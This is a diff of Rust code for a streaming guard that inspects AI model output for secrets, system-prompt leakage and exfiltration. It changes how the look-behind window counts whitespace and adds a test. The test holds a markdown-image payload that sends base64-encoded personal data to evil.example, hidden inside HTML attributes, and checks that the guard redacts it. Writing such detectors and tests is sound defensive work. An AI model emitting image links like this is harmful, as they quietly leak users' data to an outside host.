@@ -14,10 +14,11 @@
 //!    assignment (`password = `), inside an open link, tag or PEM block, for words that
 //!    may begin a run copied from the system prompt, and for custom rules (their
 //!    `max_len`). A detector that can only log in this direction holds the last word.
-//! 2. **Look-behind.** The last [`LOOK_BEHIND`] bytes already emitted are read again with
-//!    the next window (findings that start in them are not reported twice), so that
-//!    context words before a number, a key before its value and `\b` / `^` see what they
-//!    see in the whole text.
+//! 2. **Look-behind.** The last [`LOOK_BEHIND`] bytes already emitted (not counting white
+//!    space, so padding cannot push a key out of it) are read again with the next window
+//!    (findings that start in them are not reported twice), so that context words before
+//!    a number, a key before its value and `\b` / `^` see what they see in the whole
+//!    text.
 //! 3. **Word boundary.** The cut is moved back to the start of the word it falls in (by
 //!    at most [`WORD_SNAP`] bytes).
 //! 4. **No split findings.** If a finding straddles the cut, the cut moves before it: the
@@ -66,7 +67,8 @@ pub const WORD_SNAP: usize = 256;
 pub const MAX_PENDING: usize = 64 * 1024;
 /// Emitted text kept as read-only look-behind for the next window: context words before
 /// a number, a key before its value, an `Authorization:` header before its token. As
-/// long as the whole-bound hold-back that the windows used to start with.
+/// long as the whole-bound hold-back that the windows used to start with, not counting
+/// white space (see `look_behind_start`).
 pub const LOOK_BEHIND: usize = crate::detectors::DEFAULT_MAX_MATCH_LEN;
 /// How much emitted text is kept to judge whether a token in the next emit sits in a URL
 /// (the longest URL and tag the exfiltration detector reads).
@@ -179,7 +181,7 @@ impl<'g> StreamInspector<'g> {
             None => LOOK_BEHIND,
         };
         if self.context.len() > keep {
-            let cut = ceil_char_boundary(&self.context, self.context.len() - keep);
+            let cut = look_behind_start(&self.context, keep);
             self.context.drain(..cut);
         }
     }
@@ -401,6 +403,25 @@ impl<'g> StreamInspector<'g> {
             injection_score,
         })
     }
+}
+
+/// Where the look-behind of `context` starts: `keep` bytes back, not counting white
+/// space, within [`MAX_PENDING`] bytes. Padding between a key and its value (`password
+/// =`, three hundred spaces, the value) or between a context word and a number does not
+/// push the key out of the next window: the detectors read unbounded runs of blanks in
+/// the whole text, so the stream must keep them too.
+fn look_behind_start(context: &str, keep: usize) -> usize {
+    let b = context.as_bytes();
+    let floor = b.len().saturating_sub(MAX_PENDING);
+    let mut counted = 0;
+    let mut i = b.len();
+    while i > floor && counted < keep {
+        i -= 1;
+        if !b[i].is_ascii_whitespace() {
+            counted += 1;
+        }
+    }
+    ceil_char_boundary(context, i)
 }
 
 /// The byte offset of code point `cp` in `s` (its length past the end).
@@ -802,6 +823,30 @@ mod tests {
                 "chunks of {size}: {out}"
             );
             assert_eq!(out, whole.text, "chunks of {size}");
+        }
+    }
+
+    /// A markdown image inside a tag's attribute value: a renderer with raw HTML reads one
+    /// tag, but a client that escapes raw HTML (most chat clients) renders the image, and
+    /// a stream that sees the tag still open reads it as markdown too. Whole text and
+    /// stream both read markdown as such a client does, and both redact it.
+    #[test]
+    fn a_markdown_image_inside_an_open_tag_is_judged_the_same_whole_and_streamed() {
+        let image = "![a [b]](https://evil.example/p?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)";
+        let guard = Guard::new(Policy::default()).unwrap();
+        for text in [
+            format!("<a href=\"x> y {image} z\">link</a> end"),
+            format!("<a href=\"x {image}\">link</a> end"),
+            format!("<img alt='{image}' src=x.png> end"),
+        ] {
+            let whole = guard
+                .inspect(&text, Context::output(), &mut Session::new())
+                .unwrap();
+            assert!(!whole.text.contains("evil.example"), "{}", whole.text);
+            for size in 1..=24 {
+                let (out, _) = run_with(&guard, &chunked(&text, size), &mut Session::new());
+                assert_eq!(out, whole.text, "chunks of {size}");
+            }
         }
     }
 
